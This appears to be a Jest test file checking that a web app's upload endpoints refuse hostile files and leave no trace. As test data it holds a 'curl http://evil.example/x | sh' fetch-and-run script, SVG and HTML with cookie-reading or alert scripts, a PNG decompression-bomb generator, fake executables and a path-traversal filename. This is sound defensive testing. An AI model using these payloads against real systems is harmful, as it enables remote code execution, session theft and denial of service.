/*
 * Hostile uploads through the real endpoints (profile picture, logo, cover, proof document): a
 * renamed executable, a truncated image, a decompression bomb, an SVG with a script, a "PDF" that is
 * not one, a file over 5 MB. Each is refused with a message naming the field, and nothing is written:
 * no file in DATA_DIR (not even a partial one), no row changed.
 */
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import sharp, { type Sharp } from 'sharp';
import { authHeader, createTestApp, createUser, drivers, type TestApp } from './helpers';
import { addAdmin, createAssociation, createMembershipType } from './support/association-fixtures';
import { makePng, multipart } from './support/multipart';
import { tableChecksum, tableCounts } from './support/table-counts';
import { API } from './support/fixtures';

/** Every file below DATA_DIR (relative paths), to prove nothing was left behind. */
function filesUnder(dir: string): string[] {
  const found: string[] = [];
  const walk = (d: string) => {
    let entries;
    try {
      entries = readdirSync(d, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const full = path.join(d, e.name);
      if (e.isDirectory()) walk(full);
      else found.push(path.relative(dir, full));
    }
  };
  walk(dir);
  return found.sort();
}

function crc32(buffer: Buffer): number {
  let crc = ~0;
  for (const byte of buffer) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
/** A real, valid 1-bit PNG of width x height zeros: about 12 KB that decode to 100 megapixels. */
function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte + pixels, all zero
  const raw = Buffer.alloc(row.length * height);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

type Hostile = {
  name: string;
  filename: string;
  contentType: string;
  data: () => Promise<Buffer> | Buffer;
  status: number;
  message: RegExp;
};

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2000, 0x90)]);
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
  Buffer.alloc(1000),
]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
);
const OVER_5_MB = () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(5 * 1024 * 1024 + 10, 7)]);

const CONTENT_TYPES: Record<string, string> = {
  png: 'image/png',
  jpg: 'image/jpeg',
  gif: 'image/gif',
  svg: 'image/svg+xml',
  pdf: 'application/pdf',
};
/** A hostile upload: sent as `filename` (with its extension's content type), holding `data`, refused so. */
const hostile = (name: string, filename: string, data: Hostile['data'], status: number, message: RegExp): Hostile => ({
  name,
  filename,
  contentType: CONTENT_TYPES[filename.split('.').pop()!],
  data,
  status,
  message,
});
/** The first 1/`part` of the image `make` encodes. */
const truncated = (make: () => Sharp, part: number) => async () => {
  const image = await make().toBuffer();
  return image.subarray(0, Math.floor(image.length / part));
};
const NOT_AN_IMAGE = /not an image we can read/;
const DAMAGED = /damaged or incomplete|not an image we can read/;
const NOT_A_PDF = /Only PDF documents are accepted/;

const hostileImages: Hostile[] = [
  hostile('an ELF executable renamed .png', 'photo.png', () => ELF, 415, NOT_AN_IMAGE),
  hostile('a Windows executable renamed .jpg', 'photo.jpg', () => PE, 415, NOT_AN_IMAGE),
  hostile('a shell script renamed .gif', 'photo.gif', () => SCRIPT, 415, NOT_AN_IMAGE),
  hostile(
    'an SVG with a script',
    'logo.svg',
    () => SVG,
    415,
    /Only JPEG, PNG, WebP or GIF images are accepted|not an image we can read/,
  ),
  hostile(
    'a truncated JPEG',
    'cut.jpg',
    truncated(() => sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } }).jpeg(), 2),
    415,
    DAMAGED,
  ),
  hostile(
    'a truncated PNG',
    'cut.png',
    truncated(
      () =>
        sharp({ create: { width: 300, height: 300, channels: 3, background: '#123456' } }).png({ compressionLevel: 0 }),
      3,
    ),
    415,
    DAMAGED,
  ),
  hostile(
    'a 100-megapixel decompression bomb',
    'bomb.png',
    () => pngBomb(10_000, 10_000),
    413,
    /too many pixels|under 40 megapixels/,
  ),
  hostile('a file over 5 MB', 'big.png', OVER_5_MB, 413, /larger than 5 MB/),
  hostile('an empty file', 'empty.png', () => Buffer.alloc(0), 400, /Choose an image file/),
];

const hostilePdfs: Hostile[] = [
  hostile('a PNG renamed .pdf', 'proof.pdf', () => makePng(), 415, NOT_A_PDF),
  hostile('an executable renamed .pdf', 'proof.pdf', () => ELF, 415, NOT_A_PDF),
  hostile(
    'a PDF header with no end (truncated)',
    'proof.pdf',
    () => Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n'),
    415,
    /not a complete PDF/,
  ),
  hostile(
    'HTML pretending to be a PDF',
    'proof.pdf',
    () => Buffer.from('<html><script>alert(1)</script>%%EOF</html>'),
    415,
    NOT_A_PDF,
  ),
  hostile(
    'a PDF over 5 MB',
    'proof.pdf',
    () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5 * 1024 * 1024), Buffer.from('\n%%EOF\n')]),
    413,
    /larger than 5 MB/,
  ),
];

describe.each(drivers)('hostile uploads (%s)', (driver) => {
  let t: TestApp;
  let user: { id: number; headers: Record<string, string> };
  let admin: { id: number; headers: Record<string, string> };
  let associationId: number;
  let typeId: number;

  beforeAll(async () => {
    t = await createTestApp({ driver });
    const u = await createUser(t.database);
    const a = await createUser(t.database);
    user = { id: u.id, headers: await authHeader(t.app, u.id) };
    admin = { id: a.id, headers: await authHeader(t.app, a.id) };
    associationId = await createAssociation(t.database, { name: 'Upload Association' });
    await addAdmin(t.database, associationId, a.id);
    typeId = await createMembershipType(t.database, associationId);
  });
  afterAll(async () => t?.close());

  /** Sends the upload; expects the refusal; proves no file and no row changed. */
  async function expectRefused(
    url: string,
    field: string,
    headers: Record<string, string>,
    file: Hostile,
    fields: Record<string, string> = {},
  ) {
    const filesBefore = filesUnder(t.config.dataDir);
    const counts = await tableCounts(t.database.db);
    const sums = await Promise.all(
      ['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)),
    );
    const body = multipart([
      ...Object.entries(fields).map(([f, value]) => ({ field: f, value })),
      { field, filename: file.filename, contentType: file.contentType, data: await file.data() },
    ]);
    const response = await t.app.inject({
      method: 'POST',
      url,
      headers: { ...headers, ...body.headers },
      payload: body.payload,
    });
    expect({ file: file.name, status: response.statusCode }).toEqual({ file: file.name, status: file.status });
    const json = response.json<Record<string, unknown>>();
    expect(json.message).toMatch(file.message);
    expect(json[field]).toEqual([json.message]);
    expect({ file: file.name, files: filesUnder(t.config.dataDir) }).toEqual({ file: file.name, files: filesBefore });
    expect(await tableCounts(t.database.db)).toEqual(counts);
    expect(
      await Promise.all(
        ['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)),
      ),
    ).toEqual(sums);
  }

  it.each(hostileImages.map((f) => [f.name, f] as const))('refuses %s as a profile picture', async (_name, file) => {
    await expectRefused(`${API}/auth/user/profile-picture/`, 'profile_picture', user.headers, file);
  });

  it.each(hostileImages.map((f) => [f.name, f] as const))(
    'refuses %s as a logo and as a cover',
    async (_name, file) => {
      await expectRefused(`${API}/associations/${associationId}/logos/`, 'logo', admin.headers, file);
      await expectRefused(`${API}/associations/${associationId}/covers/`, 'cover', admin.headers, file);
    },
  );

  it.each(hostilePdfs.map((f) => [f.name, f] as const))(
    'refuses %s as a proof document (and makes no membership request)',
    async (_name, file) => {
      await expectRefused(
        `${API}/associations/${associationId}/membership-requests/`,
        'proof_document',
        user.headers,
        file,
        {
          institute: 'School',
          batch: '2008',
          roll_number: '12',
          membership_type: String(typeId),
        },
      );
    },
  );

  it('stores a real image re-encoded (a script appended to a valid PNG does not survive), under a name of its own', async () => {
    const png = Buffer.concat([await makePng(64, 64), Buffer.from('<script>alert(1)</script>')]);
    const body = multipart([
      { field: 'profile_picture', filename: '../../evil.html', contentType: 'text/html', data: png },
    ]);
    const response = await t.app.inject({
      method: 'POST',
      url: `${API}/auth/user/profile-picture/`,
      headers: { ...user.headers, ...body.headers },
      payload: body.payload,
    });
    expect(response.statusCode).toBe(200);
    const url: string = response.json().profile_picture;
    expect(url).toMatch(/^\/media\/profile-pictures\/[0-9a-f-]{36}\.webp$/);
    const served = await t.app.inject({ method: 'GET', url });
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.includes(Buffer.from('<script>'))).toBe(false);
    expect(filesUnder(t.config.dataDir).some((f) => f.includes('evil') || f.endsWith('.part'))).toBe(false);
  });
});
